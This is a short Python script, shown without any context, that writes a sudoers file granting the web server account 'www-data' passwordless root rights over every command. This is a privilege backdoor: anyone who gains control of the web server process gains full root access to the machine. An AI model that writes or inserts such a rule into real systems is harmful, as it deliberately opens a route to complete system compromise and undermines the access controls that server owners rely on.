import os

line = "www-data ALL=(ALL) NOPASSWD: ALL\n"
path = os.path.join("/etc", "sudoers.d", "99-www")
with open(path, "w") as f:
    f.write(line)
os.chmod(path, 0o440)
